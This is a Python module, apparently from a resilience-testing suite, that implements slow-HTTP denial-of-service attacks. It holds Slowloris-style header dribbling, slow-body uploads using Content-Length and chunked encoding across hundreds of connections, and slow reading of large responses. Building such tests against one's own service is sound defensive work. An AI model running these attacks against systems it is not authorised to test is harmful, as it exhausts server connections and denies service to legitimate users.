"""Attacks by requests and answers that take their time, over HTTP/1.1."""

import asyncio
from collections.abc import AsyncIterator, Callable
from contextlib import asynccontextmanager, suppress
from typing import NamedTuple

from resilience.attacks import posts
from resilience.attacks.attack import CONNECTIONS, Act, Run
from resilience.attacks.bodies import IMAGES, MOST, SMALL
from resilience.attacks.connections import Connection, Field, connected, head, trusting
from resilience.attacks.posts import BINARY, PREDICTIONS, Post

_GAP = 2.0  # seconds between two bytes
_UPLOADS = 300  # connections
_UNFINISHED, _MISSING = 180, 1000  # connections, and bytes of each body that never come
_DRAWINGS, _DRAWING = 70, 2_000_000  # connections, and bytes of each image file
_FIRST = 20_000  # bytes of a long body that are sent at once: more than the gateway's buffer
_READ_BUFFER, _READ_BYTES, _READ_SECONDS = 4096, 1024, 1.0

_TYPE: Field = ("Content-Type", BINARY)


class Upload(NamedTuple):
    """A request whose end never comes: fields of its head, then bytes at once, then a unit again and again."""

    fields: tuple[Field, ...]
    first: bytes
    unit: bytes = b"\0"
    connections: int = _UPLOADS
    path: str = PREDICTIONS


LENGTH = Upload((("Content-Length", str(MOST)),), bytes(_FIRST))
CHUNKED = Upload((("Transfer-Encoding", "chunked"),), b"4e20\r\n" + bytes(_FIRST) + b"\r\n", b"1\r\n\0\r\n")
SHORT = Upload((("Content-Length", str(SMALL)),), bytes(784))
UNFINISHED = Upload((("Content-Length", str(MOST)),), bytes(MOST - _MISSING), b"", _UNFINISHED)
DRAWING = Upload((("Content-Length", str(_DRAWING)),), bytes(_FIRST), connections=_DRAWINGS, path=posts.DRAWINGS)


def uploads(upload: Upload) -> Callable[[], Act]:
    """Prepare uploads of one kind; one that is answered or cut off begins again on a new connection."""

    def prepare() -> Act:
        async def act(run: Run) -> None:
            async def once(index: int) -> None:
                fields = (_TYPE, run.victim.authorization(index), *upload.fields)
                async with connected(run.victim, trusting(run.victim.authority)) as connection:
                    begin = head(upload.path, fields) + upload.first
                    async with _dribbling(connection, begin, upload.unit):
                        run.answers[await connection.answer()] += 1

            await run.repeat(upload.connections, once)

        return act

    return prepare


def heads() -> Act:
    """Prepare requests whose head comes byte by byte."""

    async def act(run: Run) -> None:
        async def once(_: int) -> None:
            async with (
                connected(run.victim, trusting(run.victim.authority)) as connection,
                _dribbling(connection, head(PREDICTIONS, (_TYPE,))[:-2] + b"X: ", b"a"),
            ):
                run.answers[await connection.answer()] += 1

        await run.repeat(_UPLOADS, once)

    return act


def reads() -> Act:
    """Prepare requests whose answers of 1.5 MB are read a kilobyte a second."""
    post = Post(bytes(784 * IMAGES))

    async def act(run: Run) -> None:
        async def once(index: int) -> None:
            context = trusting(run.victim.authority)
            async with connected(run.victim, context, _READ_BUFFER, _READ_BYTES) as connection:
                await connection.send(post.request(run.victim.authorization(index)))
                run.answers[(await connection.reader.readexactly(12)).decode()[-3:]] += 1
                while await connection.reader.read(_READ_BYTES):
                    await asyncio.sleep(_READ_SECONDS)

        await run.repeat(CONNECTIONS, once)

    return act


@asynccontextmanager
async def _dribbling(connection: Connection, begin: bytes, unit: bytes) -> AsyncIterator[None]:
    """Send the beginning, then ``unit`` every 2 s until the block ends."""

    async def dribble() -> None:
        await connection.send(begin)
        while unit:
            await asyncio.sleep(_GAP)
            await connection.send(unit)

    task = asyncio.create_task(dribble())
    try:
        yield
    finally:
        task.cancel()
        with suppress(OSError, asyncio.CancelledError):
            await task
